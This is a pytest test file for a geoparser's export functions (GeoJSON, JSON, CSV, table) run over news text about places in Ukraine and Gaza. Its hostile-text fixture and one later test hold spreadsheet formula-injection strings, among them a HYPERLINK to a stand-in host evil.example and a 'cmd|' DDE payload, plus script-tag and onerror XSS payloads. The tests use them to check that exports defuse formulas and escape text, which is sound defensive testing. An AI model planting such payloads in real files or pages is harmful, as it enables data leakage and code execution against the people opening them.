"""Tests for geo.map.export: GeoJSON, JSON, CSV and the text table, including hostile article text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from geo.engine.pipeline import Geoparser
from geo.engine.recognize import Mention
from geo.engine.resolve import Resolver
from geo.files.articles import Article, article_from_text, split_passages
from geo.gazetteer import PlaceIndex
from geo.map.export import CSV_COLUMNS, places_csv, places_geojson, places_json, places_table
from geo.map.places import Place, group_places, places_for

HOSTILE_TEXT = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Breaking news")\n'
    "Shelling hit Kramatorsk <script>alert(1)</script> and \"Kyiv\" in `backticks` </script> "
    "<img src=x onerror=alert(1)> overnight, 'officials' said.\n\n"
    '=HYPERLINK("http://evil.example","click") Fighting near Mariupol continued.\n\n'
    "@SUM(1+1) Troops left Mariupol.\n\n"
    "+cmd|' /C calc'!A0 Sirens sounded in Kyiv.\n"
)
HOSTILE_PIECES = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</script>", "`backticks`",
                  '"Kyiv"', "'officials'", '=HYPERLINK("http://evil.example","click")']
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
UNKNOWN = "Xqzzyplorbville"


@pytest.fixture(scope="module")
def seed_places(parser: Geoparser, seed_a: Article, seed_b: Article) -> list[Place]:
    return places_for([seed_a, seed_b], parser)


@pytest.fixture(scope="module")
def hostile_places(parser: Geoparser) -> list[Place]:
    return places_for([article_from_text(HOSTILE_TEXT, source="hostile.txt")], parser)


@pytest.fixture(scope="module")
def with_unresolved(index: PlaceIndex, parser: Geoparser) -> list[Place]:
    """Places of an article with one mention the gazetteer cannot place."""
    article = article_from_text(f"{UNKNOWN} was shelled again, officials in Kyiv said.")
    unknown = Mention(0, len(UNKNOWN), UNKNOWN, (), ner_label="GPE", lookup_name=UNKNOWN)
    resolved = Resolver(index).resolve([unknown]) + parser.parse(article.text)
    places = group_places([(article, split_passages(article), resolved)])
    assert {p.name for p in places} == {UNKNOWN, "Kyiv"}
    return places


def parse_csv(text: str) -> tuple[list[str], list[dict[str, str]]]:
    rows = list(csv.reader(io.StringIO(text)))
    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


# -- GeoJSON -------------------------------------------------------------------------------------

def test_geojson_is_a_feature_collection_of_points(seed_places: list[Place]) -> None:
    data = json.loads(places_geojson(seed_places))
    placed = [p for p in seed_places if p.resolved]
    assert data["type"] == "FeatureCollection"
    assert len(data["features"]) == len(placed) > 10
    for feature, place in zip(data["features"], placed, strict=True):
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert (lon, lat) == pytest.approx((place.lon, place.lat), abs=1e-5)   # GeoJSON order: lon, lat
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert feature["properties"]["name"] == place.name
        assert feature["properties"]["mentions"] == place.mention_count


def test_geojson_leaves_out_unresolved_places(with_unresolved: list[Place]) -> None:
    data = json.loads(places_geojson(with_unresolved))
    assert [f["properties"]["name"] for f in data["features"]] == ["Kyiv"]
    assert json.loads(places_geojson([])) == {"type": "FeatureCollection", "features": []}


def test_geojson_keeps_hostile_text_as_text(hostile_places: list[Place]) -> None:
    data = json.loads(places_geojson(hostile_places))
    passages = {p["passage"] for f in data["features"] for p in f["properties"]["passages"]}
    for piece in HOSTILE_PIECES:
        assert any(piece in text for text in passages), piece


# -- JSON ----------------------------------------------------------------------------------------

def test_json_records_carry_passages_and_offsets(seed_places: list[Place]) -> None:
    records = json.loads(places_json(seed_places))
    assert [r["name"] for r in records] == [p.name for p in seed_places]
    for record, place in zip(records, seed_places, strict=True):
        assert record["mentions"] == len(record["passages"]) == place.mention_count
        assert (record["lat"], record["lon"]) == (place.lat, place.lon)
        for p in record["passages"]:
            assert p["passage"][p["mention_start"]:p["mention_end"]] == p["mention"]
        assert all(a["name"] for a in record["alternatives"])


def test_json_of_an_unresolved_place(with_unresolved: list[Place]) -> None:
    [record] = [r for r in json.loads(places_json(with_unresolved)) if r["name"] == UNKNOWN]
    assert record["lat"] is None and record["lon"] is None and record["kind"] == "unresolved"


# -- CSV -----------------------------------------------------------------------------------------

def test_csv_has_a_header_and_a_row_per_mention(seed_places: list[Place]) -> None:
    header, rows = parse_csv(places_csv(seed_places))
    assert tuple(header) == CSV_COLUMNS
    assert len(rows) == sum(p.mention_count for p in seed_places)
    expected = [(p.name, m.name, m.passage.text) for p in seed_places for m in p.mentions]
    assert [(r["name"], r["mention"], r["passage"]) for r in rows] == expected
    assert places_csv([]).strip() == ",".join(CSV_COLUMNS)


def test_csv_keeps_hostile_text_and_defuses_formulas(hostile_places: list[Place]) -> None:
    _, rows = parse_csv(places_csv(hostile_places))
    assert len(rows) == sum(p.mention_count for p in hostile_places) >= 5
    passages = [r["passage"] for r in rows]
    for piece in HOSTILE_PIECES:
        assert any(piece in text for text in passages), piece
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (column, cell)
    originals = {m.passage.text for p in hostile_places for m in p.mentions}
    for cell in passages:
        original = cell[1:] if cell.startswith("'") and cell[1:2] in FORMULA_STARTS else cell
        assert original in originals
    assert any(cell.startswith("'=HYPERLINK(") for cell in passages)
    assert any(cell.startswith("'@SUM(") for cell in passages)
    assert any(cell.startswith("'+cmd|") for cell in passages)
    assert {r["article_title"] for r in rows} == {"'" + HOSTILE_TEXT.splitlines()[0]}


def test_csv_leaves_numbers_alone(seed_places: list[Place]) -> None:
    _, rows = parse_csv(places_csv(seed_places))
    usa = [r for r in rows if r["name"] == "United States"]
    assert usa and all(float(r["lon"]) < -60 for r in usa)       # a negative number, not a formula


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# -- table ---------------------------------------------------------------------------------------

def test_table_names_the_places(seed_places: list[Place]) -> None:
    table = places_table(seed_places)
    lines = table.splitlines()
    assert lines[0].split()[:3] == ["place", "kind", "country"]
    assert len(lines) == len(seed_places) + 1
    for place, line in zip(seed_places, lines[1:], strict=True):
        assert line.startswith(place.name[:40])
    for name in ("Mariupol", "Kramatorsk", "Zaporizhzhia", "Ukraine", "Russia"):
        assert name in table


def test_table_shows_unresolved_places_without_a_point(with_unresolved: list[Place]) -> None:
    [line] = [line for line in places_table(with_unresolved).splitlines() if line.startswith(UNKNOWN)]
    assert line.split()[1:5] == ["unresolved", "-", "-", "-"]


# -- precision -----------------------------------------------------------------------------------
APPROX_TEXT = ("Russian forces shelled Stepne, Donetsk.\n\n"
               "Patients were trapped in Kamal Adwan Hospital in Beit Lahia.\n")


@pytest.fixture(scope="module")
def approx_places(parser: Geoparser) -> list[Place]:
    places = places_for([article_from_text(APPROX_TEXT)], parser)
    assert {p.name: p.precision for p in places}["Stepne"] == "admin1"
    return places


def test_json_and_geojson_records_state_the_precision(approx_places: list[Place],
                                                      with_unresolved: list[Place]) -> None:
    records = {r["name"]: r for r in json.loads(places_json(approx_places + with_unresolved))}
    assert (records["Stepne"]["precision"], records["Stepne"]["container"]) == ("admin1", "Donetska oblast")
    assert records["Kamal Adwan Hospital"]["precision"] == "town" and records["Kamal Adwan Hospital"]["container"]
    assert (records["Beit Lahia"]["precision"], records["Beit Lahia"]["container"]) == ("exact", None)
    assert (records[UNKNOWN]["precision"], records[UNKNOWN]["container"]) == ("unplaced", None)
    features = json.loads(places_geojson(approx_places + with_unresolved))["features"]
    props = {f["properties"]["name"]: f["properties"] for f in features}
    assert UNKNOWN not in props                                  # GeoJSON: points only
    assert props["Stepne"]["precision"] == "admin1" and props["Stepne"]["container"] == "Donetska oblast"
    stepne = next(p for p in approx_places if p.name == "Stepne")
    assert next(f for f in features if f["properties"]["name"] == "Stepne")["geometry"]["coordinates"] == \
        [round(stepne.lon, 6), round(stepne.lat, 6)]            # the container's point, said to be so


def test_csv_states_the_precision(approx_places: list[Place], with_unresolved: list[Place]) -> None:
    header, rows = parse_csv(places_csv(approx_places + with_unresolved))
    assert header[:7] == ["name", "kind", "country", "lat", "lon", "precision", "container"]   # after the point
    by_name = {r["name"]: r for r in rows}
    assert (by_name["Stepne"]["precision"], by_name["Stepne"]["container"]) == ("admin1", "Donetska oblast")
    assert (by_name["Beit Lahia"]["precision"], by_name["Beit Lahia"]["container"]) == ("exact", "")
    assert (by_name[UNKNOWN]["precision"], by_name[UNKNOWN]["lat"]) == ("unplaced", "")


def test_table_has_a_precision_column(approx_places: list[Place], with_unresolved: list[Place]) -> None:
    lines = places_table(approx_places + with_unresolved).splitlines()
    assert lines[0].split() == ["place", "kind", "country", "lat", "lon", "precision", "mentions", "conf"]
    stepne = next(line for line in lines if line.startswith("Stepne "))
    assert stepne.split()[5] == "admin1"
    assert next(line for line in lines if line.startswith(UNKNOWN)).split()[5] == "unplaced"
    assert next(line for line in lines if line.startswith("Beit Lahia")).split()[6] == "exact"


# -- long passages ---------------------------------------------------------------------------------
def test_exports_carry_a_window_of_a_long_passage() -> None:
    from longtext import long_article, long_places

    from geo.map.excerpts import CONTEXT, CUT

    article = long_article(100)
    places = long_places(article)
    mentions = sum(p.mention_count for p in places)
    text = places_csv(places)
    assert len(text) < mentions * (2 * CONTEXT + 400), len(text)     # not mentions x 100 KB
    _, rows = parse_csv(text)
    assert len(rows) == mentions
    for row in rows[:50] + rows[-50:]:
        assert row["passage"].startswith(CUT) or row["passage"].startswith("Shelling")
        start, end = int(row["article_start"]), int(row["article_end"])
        assert article.text[start:end] == row["mention"]
        assert row["passage_id"] == f"{article.id}:0"
        assert row["article_id"] == article.id and row["source"] == "long.txt"
        assert row["passage_truncated"] == "yes"
        assert row["mention"] in row["passage"]
    features = json.loads(places_geojson(places))["features"]
    assert len(json.dumps(features)) < mentions * (2 * CONTEXT + 600)
    for f in features:
        for p in f["properties"]["passages"][:20]:
            assert p["passage"][p["mention_start"]:p["mention_end"]] == p["mention"]
            assert article.text[p["article_start"]:p["article_end"]] == p["mention"]
            assert p["passage_truncated"] and CUT in p["passage"]
            assert len(p["passage"]) <= 2 * CONTEXT + len(p["mention"]) + 2 * (len(CUT) + 1)


def test_a_short_passage_is_exported_whole(seed_places: list[Place]) -> None:
    for record in json.loads(places_json(seed_places)):
        for p in record["passages"]:
            assert not p["passage_truncated"]
            assert p["passage_id"].startswith(p["article_id"] + ":")


def test_table_rows_as_csv_defuse_formulas_and_keep_the_text() -> None:
    from geo.map.export import rows_csv

    rows = [{"status": "changed", "A": '=HYPERLINK("http://evil.example","x")', "B": "+cmd|' /C calc'!A0",
             "places": "-Kyiv", "similarity": -0.5}, {"status": "same", "A": "plain", "B": "@SUM(1)",
                                                      "places": "", "similarity": 1.0}]
    header, parsed = parse_csv(rows_csv(rows))
    assert header == ["status", "A", "B", "places", "similarity"]
    assert parsed[0]["A"] == "'" + rows[0]["A"] and parsed[0]["B"] == "'" + rows[0]["B"]
    assert parsed[0]["places"] == "'-Kyiv" and parsed[0]["similarity"] == "-0.5"
    assert parsed[1]["B"] == "'@SUM(1)" and parsed[1]["A"] == "plain"
    assert rows_csv([]) == ""


def test_exports_name_the_article_file_not_the_folder_it_was_read_from(parser: Geoparser) -> None:
    from geo.files.articles import read_article

    seed = read_article(Path(__file__).resolve().parents[1] / "seeds" / "itv-azovstal-version-a.txt")
    assert Path(seed.source).is_absolute() or "/" in seed.source          # as the dashboard reads its samples
    places = places_for([seed], parser)
    for text in (places_geojson(places), places_csv(places), places_json(places)):
        assert "itv-azovstal-version-a.txt" in text
        assert str(Path(seed.source).parent) not in text and "seeds/" not in text
    record = json.loads(places_geojson(places))["features"][0]["properties"]
    assert {p["source"] for p in record["passages"]} == {"itv-azovstal-version-a.txt"}


def test_exports_carry_the_events_at_each_place(fast_parser: Geoparser) -> None:
    text = ("Kharkiv, 10 March 2022\n\nRussian forces shelled Kharkiv on Tuesday.\n\n"
            "Police arrested two men in Odesa. Officials met in Odesa.")
    places = {p.name: p for p in places_for([article_from_text(text, "story.txt")], fast_parser)}
    assert [e.sub_event_type for e in places["Kharkiv"].events] == ["Shelling/artillery/missile attack"]
    (shelling,) = [f for f in json.loads(places_geojson(list(places.values())))["features"]
                   if f["properties"]["name"] == "Kharkiv"]
    (event,) = shelling["properties"]["events"]
    assert event["event_type"] == "Explosions/Remote violence"
    assert (event["date"], event["date_source"], event["trigger"]) == ("2022-03-08", "relative", "shelled")
    assert text[event["article_start"]:event["article_end"]] == "shelled"
    assert text[event["mention_start"]:event["mention_end"]] == "Kharkiv" and event["actors"] == ["Russian forces"]
    rows = [r for r in csv.DictReader(io.StringIO(places_csv([places["Odesa"]])))]
    assert [(r["sub_event_type"], r["event_date"], r["date_source"], r["actors"]) for r in rows] == [
        ("Arrests", "2022-03-10", "article", "Police"), ("", "", "", "")]     # the meeting is no event
    assert places_for([article_from_text(text, "story.txt")], fast_parser, events=False)[0].events == ()
